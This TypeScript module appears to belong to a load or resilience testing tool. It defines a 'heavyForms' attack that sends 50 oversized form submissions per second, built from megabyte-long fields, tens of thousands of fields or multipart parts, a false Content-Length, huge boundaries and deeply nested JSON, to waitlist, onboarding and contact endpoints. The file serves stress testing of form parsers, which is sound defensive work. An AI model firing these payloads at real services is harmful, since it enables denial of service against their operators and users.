import type { Attack } from '../attack.ts'
import { overConnections } from '../connections.ts'
import { post, request } from '../request.ts'
import { steadily } from '../steadily.ts'

const urlencoded = 'application/x-www-form-urlencoded'
const multipart = 'multipart/form-data; boundary=x'
const parts = (count: number) =>
  `${'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'.repeat(count)}--x--\r\n`

const bodies = [
  post('/waitlist', urlencoded, `name=${'a'.repeat(99_000)}`),
  post('/waitlist', urlencoded, 'a=b&'.repeat(24_000)),
  post('/waitlist', urlencoded, `interests=${'%F0%9F%95%8C'.repeat(8_000)}`),
  post('/waitlist', urlencoded, `name=${'a'.repeat(1_000_000)}`),
  request('POST', '/waitlist', { 'Content-Type': urlencoded, 'Content-Length': 10_000_000 }, 'a='),
  post('/onboarding', multipart, parts(1_800)),
  post('/onboarding', multipart, parts(10_000)),
  post('/waitlist', multipart, `--x\r\n${'Content-A: b\r\n'.repeat(7_000)}\r\nb\r\n--x--`),
  post('/waitlist', `multipart/form-data; boundary=${'y'.repeat(10_000)}`, parts(100)),
  post('/support/contact', 'application/json', `${'['.repeat(90_000)}`),
]

export const heavyForms: Attack = {
  name: 'forms with 24,000 fields, 10,000 parts, 1 and 10 MB',
  rate: '50 forms/s',
  start: overConnections((connections) =>
    steadily(50, (n) => connections.send(bodies[n % bodies.length] ?? '')),
  ),
}
